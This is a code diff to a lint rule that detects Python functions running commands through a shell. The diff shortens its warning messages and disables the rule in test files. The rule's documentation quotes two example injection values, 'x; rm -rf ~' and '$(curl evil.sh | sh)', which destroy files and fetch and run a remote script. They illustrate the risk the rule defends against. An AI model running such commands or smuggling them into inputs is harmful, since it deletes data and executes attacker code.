@@ -27,11 +27,11 @@ export const SHELL_FUNCTIONS: Record<string, string> = {
 
 /** What to use instead of each family, for messages. */
 function alternative(qualifiedName: string): string {
-  if (qualifiedName.startsWith('asyncio.')) return '`asyncio.create_subprocess_exec(program, *args)`';
+  if (qualifiedName.startsWith('asyncio.')) return '`asyncio.create_subprocess_exec`';
   if (qualifiedName.endsWith('getoutput') || qualifiedName.endsWith('getstatusoutput') || qualifiedName.includes('popen')) {
-    return '`subprocess.run([program, *args], capture_output=True, text=True)`';
+    return '`subprocess.run([...])`';
   }
-  return '`subprocess.run([program, *args])`';
+  return '`subprocess.run([...])`';
 }
 
 export default defineRule({
@@ -49,6 +49,7 @@ export default defineRule({
     ruff: 'S605',
     fixable: true,
     fixApplicability: ['unsafe'],
+    offInTests: true,
     docs: {
       what: 'Finds `os.system`, `os.popen` (and `popen2`/`popen3`/`popen4`), the Python 2 `popen2` and `commands` modules, `subprocess.getoutput` / `getstatusoutput` and `asyncio.create_subprocess_shell`: functions that always run their command through `/bin/sh` (or `cmd.exe`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
       why: 'These functions pass the whole string to a shell, which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. When any part of the string comes from a request, a file name or another program, an attacker who supplies `x; rm -rf ~` or `$(curl evil.sh | sh)` runs their own commands with the privileges of the Python process. There is no option to turn the shell off: the fix is to call a function that takes an argument list.',
@@ -72,7 +73,7 @@ export default defineRule({
     if (!command) {
       if (call.hasStarArgs || call.hasStarKwargs) {
         context.report(call.node, {
-          message: `\`${name}\` always runs its command through a shell; if any part of the command comes from input it can run other commands. Use ${instead} instead.`,
+          message: `\`${name}\` always runs its command through a shell: input in it can run other commands; use ${instead}.`,
           confidence: 'medium',
         });
       }
@@ -81,15 +82,14 @@ export default defineRule({
     const kind = classifyCommand(command.value, context);
     if (kind.kind !== 'literal') {
       context.report(call.node, {
-        message: `\`${name}\` runs \`${brief(command.value)}\` through a shell and the command is built at run time: injection if any part comes from input, since \`;\`, \`|\` or \`$(…)\` in it start other commands. Use ${instead} with the values as separate arguments.`,
+        message: `\`${name}\` runs a run-time command through a shell (injection); use ${instead} instead.`,
       });
       return;
     }
     const split = splitCommand(kind.value);
     const fixable = 'words' in split && qualifiedName === 'os.system' && kind.direct && isStatement(call) && call.arguments.length === 1 && !call.hasStarArgs && !call.hasStarKwargs;
-    const why = 'words' in split ? '' : ` (no automatic rewrite: ${split.reason})`;
     context.report(call.node, {
-      message: `\`${name}\` starts a shell for the fixed command \`${brief(command.value)}\`; harmless while it stays fixed, but injectable as soon as a value is formatted into it${why}. Use ${instead} instead.`,
+      message: `\`${name}\` starts a shell for a fixed command, injectable once a value is added; use ${instead}.`,
       severity: 'low',
       fix: fixable && 'words' in split ? (fixer) => systemFix(fixer, call, context, split.words) : undefined,
     });
